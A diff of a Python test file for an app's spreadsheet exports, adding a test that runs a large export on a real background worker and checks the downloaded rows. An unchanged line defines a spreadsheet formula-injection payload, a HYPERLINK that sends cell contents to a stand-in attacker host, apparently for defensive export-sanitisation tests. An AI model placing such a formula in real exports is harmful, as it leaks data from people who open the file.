@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import io
 import re
+import time
 import zipfile
 
 import pytest
@@ -16,6 +17,7 @@ from app.services import export_jobs, jobs
 from app.views._export import ExportMixin
 from tests.conftest import STAFF_PASSWORD, login, login_staff
 from tests.test_certificate import _issue, passed  # noqa: F401 — the fixture is used below
+from tests.test_jobs import broker, redis_url, workers  # noqa: F401 — the worker's fixtures
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
@@ -268,3 +270,30 @@ def test_xlsx_widths_count_chinese_double(app):
     assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:B2"
     assert ws.column_dimensions["B"].width == 24
     assert ws["A1"].font.bold
+
+
+@pytest.mark.commits  # the worker reads the rows from its own connection
+def test_a_big_export_runs_on_a_real_worker(app, make_expert, workers):  # noqa: F811
+    for i in range(3):
+        make_expert(f"工人导出{i}")
+    workers()
+    client = app.test_client()
+    login_staff(client)
+    saved = app.config["EXPORT_SYNC_MAX_ROWS"]
+    app.config["EXPORT_SYNC_MAX_ROWS"] = 2
+    try:
+        resp = client.get("/expertadminview/export/?_flt_2_name=工人导出")
+    finally:
+        app.config["EXPORT_SYNC_MAX_ROWS"] = saved
+    assert resp.status_code == 302
+    status_url = resp.headers["Location"].rstrip("/") + "/status"
+    deadline = time.monotonic() + 120
+    while True:
+        status = client.get(status_url).get_json()
+        if status["finished"] or time.monotonic() > deadline:
+            break
+        time.sleep(0.5)
+    assert status == {**status, "status": "已完成", "done": 3, "percent": 100}, status
+    rows = list(_book(client.get(status["download_url"]).data).iter_rows(values_only=True))
+    assert sorted(dict(zip(rows[0], r))["姓名"] for r in rows[1:]) == [
+        "工人导出0", "工人导出1", "工人导出2"]
